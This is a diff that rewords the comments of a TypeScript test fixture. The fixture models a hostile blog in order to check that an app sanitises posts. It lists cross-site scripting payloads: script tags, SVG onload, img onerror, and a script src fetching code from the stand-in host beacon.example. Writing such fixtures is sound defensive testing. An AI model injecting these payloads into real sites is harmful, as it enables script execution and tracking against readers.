@@ -1,21 +1,21 @@
 /**
- * web-hostile: a blog whose owner wants to run something, to learn who reads, or to lead them elsewhere.
+ * web-hostile: a blog that tries to run code, to track its readers, or to send them elsewhere.
  *
- * Whatever works would call `alert`, set `window.taken`, go to, or ask for something of, the host `BEACON`.
+ * A successful attack would call `alert`, set `window.taken`, or request something from the host `BEACON`.
  */
 import type { Batch, PostFacts } from '../src/model/batch.ts';
 
 export const BLOG = 'http://mallory.example/';
 export const BEACON = 'beacon.example';
 export const PICTURE = 'http://pictures.example/cat.png';
-/** All that the post shows itself: one of the tricks is an honest picture but for what it does when it is not there. */
+/** The images of the post itself: one of the tricks is a real image with an error handler. */
 export const OWN_PICTURES = [`${BLOG}x`, PICTURE];
 
 const ACT = 'window.taken=1;alert(1)';
 const AT = `http://${BEACON}`;
 const SVG = `<svg xmlns='http://www.w3.org/2000/svg' onload='${ACT}'><script>${ACT}</script></svg>`;
 
-/** Each on its own, so that none swallows the next. */
+/** Separate fragments, so that none swallows the next. */
 export const TRICKS: readonly string[] = [
 	`<script>${ACT}</script>`,
 	`<script src="${AT}/a.js"></script>`,
@@ -48,11 +48,11 @@ export const TRICKS: readonly string[] = [
 ];
 
 const HTML = `<p>Mallory begins.</p>${TRICKS.map((trick) => `<div>${trick}</div>`).join('\n')}<p>Mallory ends.</p>`;
-/** Where no markup belongs at all. */
+/** For fields that must not contain markup. */
 export const MARKUP = `<img src=x onerror="${ACT}"><b>bold</b>`;
 const AT_TIME = '2025-12-01T10:00:00Z';
 
-/** A post as a program without any care would have kept it. */
+/** A post as a careless program would have stored it. */
 const POST: PostFacts = {
 	blog: BLOG,
 	draft: {
@@ -110,7 +110,7 @@ export const KEPT: Batch = {
 	],
 };
 
-/** The same as a line to import, where what is read is cleaned. */
+/** The same as an import line, which is sanitised when it is read. */
 export const LINE = JSON.stringify({
 	url: `${BLOG}imported`,
 	blog: BLOG,
